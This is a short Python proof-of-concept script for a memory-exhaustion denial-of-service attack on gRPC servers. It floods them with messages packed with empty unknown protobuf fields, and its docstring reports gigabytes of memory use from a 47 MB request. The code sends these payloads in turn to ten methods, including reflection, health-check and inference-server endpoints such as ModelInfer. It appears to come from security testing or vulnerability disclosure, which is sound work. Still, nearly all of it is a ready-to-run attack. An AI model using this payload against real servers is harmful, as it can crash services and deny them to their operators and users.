"""Messages of fields that no type has: a parser keeps each, however short. Two bytes of wire are an object of some
sixty.

Before: gRPC parsed the whole of up to --max-message-bytes. 47 MB of GetServerInfo took 1 GiB; gRPC's own reflection
service, which kept two copies of each request, took 4.4 GiB within four seconds.
"""

import http2
import wire
from attack import Attack, Target, run

# Empty strings, and empty groups inside each other.
EMPTY_STRINGS = wire.field(2000, b"") * ((15 << 20) // 3)
METHODS = [
    "GetServerInfo",
    "ListDevices",
    "GetStatistics",
    http2.REFLECTION,
    http2.HEALTH_CHECK,
    "ListOperators",
    "GetWorkspaceSize",
    http2.INFERENCE + "ServerLive",
    http2.INFERENCE + "ModelInfer",
    http2.INFERENCE + "RepositoryModelLoad",
]


def send(method: str):
    def attack(target: Target) -> None:
        connection = target.connect(target.index)
        calls = []
        for _ in range(3):
            calls.append(connection.start(method, EMPTY_STRINGS))
        connection.poll_until(lambda: all(call.ended for call in calls), 2.0)
        for call in calls:
            connection.forget(call)

    return attack


def in_turn(target: Target) -> None:
    for method in METHODS:
        send(method)(target)


if __name__ == "__main__":
    run(Attack([in_turn, in_turn]))
